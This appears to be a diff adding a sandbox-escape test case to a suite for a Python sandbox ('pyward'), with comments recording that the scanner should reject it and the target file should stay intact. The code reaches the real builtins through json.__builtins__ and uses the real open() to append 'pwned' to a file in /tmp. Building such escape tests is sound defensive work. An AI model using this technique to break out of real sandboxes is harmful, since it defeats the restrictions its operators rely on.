@@ -1,0 +1,11 @@
+# escape: append to an existing file
+# scanned: scan_rejected
+# unscanned: error @ module ~ UnsupportedOperation
+# evidence: file_intact /tmp/pyward-escape/victim.txt
+
+def real_builtins():
+    import json
+    b = json.__builtins__
+    return b if isinstance(b, dict) else b.__dict__
+def attack():
+    real_builtins()['open']('/tmp/pyward-escape/victim.txt', 'a').write('pwned')
